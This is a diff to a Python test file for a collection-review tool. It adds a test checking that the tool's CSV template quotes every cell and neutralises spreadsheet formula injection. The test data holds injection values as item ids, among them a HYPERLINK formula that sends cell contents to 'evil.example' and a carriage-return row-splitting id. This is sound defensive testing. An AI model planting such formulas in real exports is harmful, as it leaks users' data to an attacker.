@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import random
@@ -212,8 +213,8 @@ def test_review_decide_build_then_override(tmp_path: Path) -> None:
     assert template.exit_code == 0, template.output
     lines = template.output.splitlines()
     assert lines[0] == "id,decision,reviewer,date,note,override,overrules"
-    assert [line.split(",")[0] for line in lines[1:]] == ["inc", "nkc-hold", "nkc-later", "nkc-ship"]
-    assert all(re.fullmatch(r"[a-z-]+,,,\d{4}-\d{2}-\d{2},,no,", line) for line in lines[1:])
+    assert [line.split(",")[0] for line in lines[1:]] == ['"inc"', '"nkc-hold"', '"nkc-later"', '"nkc-ship"']
+    assert all(re.fullmatch(r'"[a-z-]+","","","\d{4}-\d{2}-\d{2}","","no",""', line) for line in lines[1:])
 
     write_review(
         folder,
@@ -262,7 +263,7 @@ def test_review_decide_build_then_override(tmp_path: Path) -> None:
     assert "nkc-later (row 4): rights:undetermined" in after.output
     # With review.csv already there, the template gives rows only, to append.
     again = invoke("review", str(folder), "--as-of", AS_OF, "--template")
-    assert [line.split(",")[0] for line in again.stdout.splitlines()] == ["nkc-later"]  # inc has its row
+    assert [line.split(",")[0] for line in again.stdout.splitlines()] == ['"nkc-later"']  # inc has its row
 
     write_review(
         folder,
@@ -341,3 +342,40 @@ def test_unknown_policy_and_impossible_date_exit_2(tmp_path: Path, command: str)
     assert date.exit_code == 2
     assert "Invalid value for '--as-of': '2026-13-01' is not a date like 2027-01-01" in date.output
     assert not (tmp_path / "dist").exists()
+
+
+def test_review_template_neutralises_formulas_and_keeps_one_row_per_item(tmp_path: Path) -> None:
+    """CSV injection: ids that a spreadsheet would run as formulas are written as text, every cell quoted."""
+    formulas = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+1", "-2,3", "@SUM(A1:A9)"]
+    rows = [
+        {"id": item_id, "file": f"files/{n}.png", "title": f"Print {n}", "rights": NKC}
+        for n, item_id in enumerate(formulas)
+    ]
+    rows.append({"id": "split\r=1+1", "file": "files/9.png", "title": "Carriage return", "rights": NKC})
+    files = {row["file"]: picture(40 + n) for n, row in enumerate(rows)}
+    folder = write_collection(tmp_path, rows, collection_id="formula-museum", files=files, rights=None, fmt="jsonl")
+
+    template = invoke("review", str(folder), "--as-of", AS_OF, "--template")
+    assert template.exit_code == 0, template.output
+    lines = template.stdout.splitlines()
+    assert len(lines) == 1 + len(formulas)  # the header, then one line per waiting item: nothing split
+
+    records = list(csv.reader(lines[1:]))
+    assert all(len(record) == 7 for record in records)
+    for line in lines[1:]:
+        assert line.startswith("\"'") and line.count('"') % 2 == 0  # quoted, and the id marked as text
+    for record in records:
+        assert not record[0].startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert sorted(record[0][1:] for record in records) == sorted(formulas)
+
+    # The marked ids are read back as the items' own ids: filled in, the template ships every item.
+    decided = [[record[0], "ship", "J. Smith", AS_OF, "checked", "no", ""] for record in records]
+    buffer = io.StringIO()
+    header = ["id", "decision", "reviewer", "date", "note", "override", "overrules"]
+    csv.writer(buffer, lineterminator="\n").writerows([header, *decided])
+    write_review(folder, buffer.getvalue())
+    out = tmp_path / "dist"
+    built = invoke("build", str(folder), "--out", str(out), "--as-of", AS_OF)
+    assert built.exit_code == 0, built.output
+    assert sorted(read_samples(out)) == sorted(formulas)
+    assert {i: r["reason"] for i, r in read_rejected(out).items()} == {"split\\r=1+1": "manifest:invalid-id"}
